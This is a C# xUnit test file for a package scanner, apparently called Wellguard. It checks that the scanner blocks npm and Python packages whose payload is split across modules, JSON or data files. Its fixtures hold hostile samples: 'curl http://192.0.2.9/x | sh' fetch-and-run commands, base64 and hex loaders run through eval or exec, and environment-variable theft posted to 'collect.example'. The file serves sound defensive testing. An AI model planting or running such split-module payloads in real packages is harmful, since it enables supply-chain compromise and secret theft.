using System.Text;
using Wellguard.Artifacts;
using Wellguard.Reports;
using Wellguard.Verdicts;
using Xunit;

namespace Wellguard.Tests.Packages;

/// <summary>What no file of a package says alone: values go from one module or data file to another.</summary>
public sealed class LinkedModulesTests
{
    private const string Metadata = "Metadata-Version: 2.1\nName: example\nVersion: 1.0\n";
    private const string Manifest = """{"name":"a","version":"1.0.0","main":"index.js","scripts":{"postinstall":"node index.js"}}""";

    private static readonly string Hidden = Convert.ToBase64String(Encoding.UTF8.GetBytes("require('child_process').exec('curl http://192.0.2.9/x | sh')"));
    private static readonly string HiddenPython = Convert.ToBase64String(Encoding.UTF8.GetBytes("import os\nos.system('curl http://192.0.2.9/x | sh')"));

    public static TheoryData<string, string[]> JavaScript => new()
    {
        { "a constant of another module", ["index.js", "const {p} = require('./lib/data');\neval(Buffer.from(p, 'base64').toString());", "lib/data.js", $"exports.p = '{Hidden}';"] },
        { "a whole export", ["index.js", "eval(atob(require('./lib/data')));", "lib/data.js", $"module.exports = '{Hidden}';"] },
        { "a function that runs what it is given", ["index.js", "require('./lib/run')('curl http://192.0.2.9/x | sh');", "lib/run.js", "const cp = require('child_process');\nmodule.exports = function (c) { cp.exec(c); };"] },
        { "a function of another name", ["index.js", "const { go } = require('./lib/run');\ngo('curl http://192.0.2.9/x | sh');", "lib/run.js", "exports.go = require('child_process').execSync;"] },
        { "what one collects another sends", ["index.js", "const all = require('./lib/all');\nrequire('./lib/send').send(all());", "lib/all.js", "module.exports = () => JSON.stringify(process.env);", "lib/send.js", "const https = require('https');\nexports.send = (d) => { const r = https.request({ hostname: 'collect.example', path: '/u', method: 'POST' }); r.write(d); r.end(); };"] },
        { "modules of the language", ["index.mjs", "import payload, { run as go } from './lib/a.mjs';\ngo(payload);", "lib/a.mjs", "export { run } from './b.mjs';\nexport default 'curl http://192.0.2.9/x | sh';", "lib/b.mjs", "import { execSync } from 'child_process';\nexport function run(c) { execSync(c); }", "package.json", """{"name":"a","version":"1.0.0","main":"index.mjs","type":"module"}"""] },
        { "everything of another module", ["index.mjs", "import * as all from './lib/a.mjs';\nall.run(all.text);", "lib/a.mjs", "export * from './b.mjs';\nexport const text = 'curl http://192.0.2.9/x | sh';", "lib/b.mjs", "import cp from 'child_process';\nexport const run = (c) => cp.execSync(c);", "package.json", """{"name":"a","version":"1.0.0","main":"index.mjs","type":"module"}"""] },
        { "a class of another module", ["index.js", "const { Runner } = require('./lib/run');\nnew Runner('curl http://192.0.2.9/x | sh').go();", "lib/run.js", "const cp = require('child_process');\nclass Runner { constructor(c) { this.c = c; } go() { cp.execSync(this.c); } }\nmodule.exports = { Runner };"] },
        { "data that is code", ["index.js", "eval(require('./data.json').p);", "data.json", """{"p":"require('child_process').exec('curl http://192.0.2.9/x | sh')"}"""] },
        { "a file that is read", ["index.js", "const fs = require('fs'), path = require('path');\nconst t = fs.readFileSync(path.join(__dirname, 'assets', 'logo.txt'), 'utf8');\neval(Buffer.from(t, 'base64').toString());", "assets/logo.txt", Hidden] },
        { "parsed data that is decoded", ["index.js", "const fs = require('fs');\nconst c = JSON.parse(fs.readFileSync(__dirname + '/conf.json'));\nnew Function(Buffer.from(c.theme, 'hex').toString())();", "conf.json", "{\"theme\":\"" + Convert.ToHexString(Encoding.UTF8.GetBytes("require('child_process').exec('curl http://192.0.2.9/x | sh')")) + "\"}"] },
        { "pieces of several modules", ["index.js", "const a = require('./a'), b = require('./b');\neval(Buffer.from(a.x + b.x, 'base64').toString());", "a.js", $"exports.x = '{Hidden[..20]}';", "b.js", $"exports.x = '{Hidden[20..]}';"] },
    };

    public static TheoryData<string, string[]> Python => new()
    {
        { "a constant of another module", ["setup.py", "import base64\nfrom example.data import p\nexec(base64.b64decode(p))\n", "example/__init__.py", "", "example/data.py", $"p = '{HiddenPython}'\n"] },
        { "a function of a sibling", ["setup.py", "import example\n", "example/__init__.py", "from . import run\nfrom .text import line as l\nrun.go(l)\n", "example/run.py", "import os\ndef go(c):\n    os.system(c)\n", "example/text.py", "line = 'curl http://192.0.2.9/x | sh'\n"] },
        { "everything of a sibling", ["setup.py", "", "example/__init__.py", "from .run import *\ngo('curl http://192.0.2.9/x | sh')\n", "example/run.py", "import os\ndef go(c):\n    os.system(c)\n"] },
        { "what one collects another sends", ["setup.py", "", "example/__init__.py", "from example.collect import everything\nfrom example.send import send\nsend(everything())\n", "example/collect.py", "import os\ndef everything():\n    return dict(os.environ)\n", "example/send.py", "import requests\ndef send(data):\n    requests.post('https://collect.example/u', json=data)\n"] },
        { "a class of another module", ["setup.py", "", "example/__init__.py", "from .run import Runner\nRunner('curl http://192.0.2.9/x | sh').go()\n", "example/run.py", "import subprocess\nclass Runner:\n    def __init__(self, c):\n        self.c = c\n    def go(self):\n        subprocess.call(self.c, shell=True)\n"] },
        { "a data file", ["setup.py", "import base64, os\nwith open(os.path.join(os.path.dirname(__file__), 'example', 'data.bin')) as f:\n    exec(base64.b64decode(f.read()))\n", "example/__init__.py", "", "example/data.bin", HiddenPython] },
        { "a data file by its path", ["setup.py", "", "example/__init__.py", "import base64, pathlib\nexec(base64.b64decode((pathlib.Path(__file__).parent / 'data.txt').read_text()))\n", "example/data.txt", HiddenPython] },
        { "parsed data", ["setup.py", "", "example/__init__.py", "import json, os\nwith open(os.path.join(os.path.dirname(__file__), 'c.json')) as f:\n    c = json.load(f)\nos.system(c['cmd'])\n", "example/c.json", """{"cmd":"curl http://192.0.2.9/x | sh"}"""] },
        { "functions of code that is evaluated", ["setup.py", "", "example/__init__.py", "from .run import go\ngo()\n", "example/run.py", "import os\nwith open(os.path.join(os.path.dirname(__file__), 'notes.txt')) as f:\n    exec(f.read())\n", "example/notes.txt", "import os\ndef go():\n    os.system('curl http://192.0.2.9/x | sh')\n"] },
        { "data of the package", ["setup.py", "", "example/__init__.py", "import base64, pkgutil\nexec(base64.b64decode(pkgutil.get_data(__name__, 'd.txt')))\n", "example/d.txt", HiddenPython] },
        { "a module under its whole name", ["setup.py", "", "example/__init__.py", "import example.run\nexample.run.go('curl http://192.0.2.9/x | sh')\n", "example/run.py", "import os\ngo = os.system\n"] },
    };

    [Theory]
    [MemberData(nameof(JavaScript))]
    public async Task JavaScript_is_followed_from_file_to_file(string what, string[] files)
    {
        var report = await PackageScanTests.ScanAsync(PackageScanTests.Package("tgz", [.. files.Select(static (text, at) => at % 2 == 0 ? "package/" + text : text), .. files.Contains("package.json") ? (string[])[] : ["package/package.json", Manifest]]));
        Assert.True(report.Verdict.Decision == Decision.Block, what + ": " + Told(report));
        Assert.True(report.Signals[0].Where is { Path: not null, Line: > 0 });
    }

    [Theory]
    [MemberData(nameof(Python))]
    public async Task Python_is_followed_from_file_to_file(string what, string[] files)
    {
        var report = await PackageScanTests.ScanAsync(PackageScanTests.Package("tgz", ["a-1.0/PKG-INFO", Metadata, .. files.Select(static (text, at) => at % 2 == 0 ? "a-1.0/" + text : text)]));
        Assert.True(report.Verdict.Decision == Decision.Block, what + ": " + Told(report));
        Assert.True(report.Signals[0].Where is { Path: not null, Line: > 0 });
    }

    [Theory]
    [InlineData("modules that load each other", "const b = require('./b');\nexports.go = (c) => b.go(c);\n", "const a = require('./index');\nexports.go = (c) => a.go(c);\na.go('x');\n")]
    [InlineData("a module that loads itself", "const b = require('./index');\nmodule.exports = b;\nb();\n", "")]
    public async Task Circles_come_to_an_end(string what, string first, string second)
    {
        var report = await PackageScanTests.ScanAsync(PackageScanTests.Package("tgz", ["package/package.json", Manifest, "package/index.js", first, "package/b.js", second]));
        Assert.True(report.Completeness.State == CompletenessState.Complete, what);
    }

    [Fact]
    public async Task A_long_chain_of_modules_comes_to_an_end()
    {
        var files = new List<string> { "package/package.json", Manifest };
        for (var i = 0; i < 500; i++)
        {
            files.AddRange([i == 0 ? "package/index.js" : $"package/m{i}.js", $"const next = require('./m{i + 1}');\nexports.go = (c) => next.go(c);\nrequire('child_process');\nnext.go('x');\n"]);
        }

        var report = await PackageScanTests.ScanAsync(PackageScanTests.Package("tgz", [.. files]));
        Assert.Equal(CompletenessState.Complete, report.Completeness.State);
    }

    [Theory]
    [InlineData("test", CompletenessState.Complete)]
    [InlineData("postinstall", CompletenessState.Partial)]
    public async Task What_a_bound_cuts_off_between_files_is_in_the_report_and_makes_it_partial_only_where_it_runs_at_installation(string script, CompletenessState expected)
    {
        const int Modules = 8;
        var comment = "/*" + new string('x', 900_000) + "*/\n";
        var files = new List<string> { "package/package.json", Manifest.Replace("postinstall", script, StringComparison.Ordinal), "package/index.js", string.Concat(Enumerable.Range(0, Modules).Select(static i => $"require('./m{i}');\n")) };
        for (var i = 0; i < Modules; i++)
        {
            files.AddRange([$"package/m{i}.js", comment + "require('child_process').execSync('ls');\n"]);
        }

        var report = await PackageScanTests.ScanAsync(PackageScanTests.Package("tgz", [.. files]));
        Assert.True(expected == report.Completeness.State, string.Join("; ", report.Completeness.Reasons));
        var cut = expected == CompletenessState.Complete ? report.Completeness.Notes! : report.Completeness.Reasons;
        Assert.Contains(cut, static note => note.Why.StartsWith("was not read together with what loads it", StringComparison.Ordinal) && note.What.StartsWith("package/m", StringComparison.Ordinal));
        using var text = new MemoryStream();
        Catalogue.ReportFormats.Single(static format => format.Name == "plain").Write([report], text, new ReportContext("test") { Width = 200 });
        Assert.Contains("was not read together", Encoding.UTF8.GetString(text.ToArray()), StringComparison.Ordinal);
    }

    internal static string Told(Report report) => string.Join(" ", report.Signals.Select(static signal => $"{signal.Rule}:{signal.Severity}@{signal.Where.Path}:{signal.Where.Line}"));
}
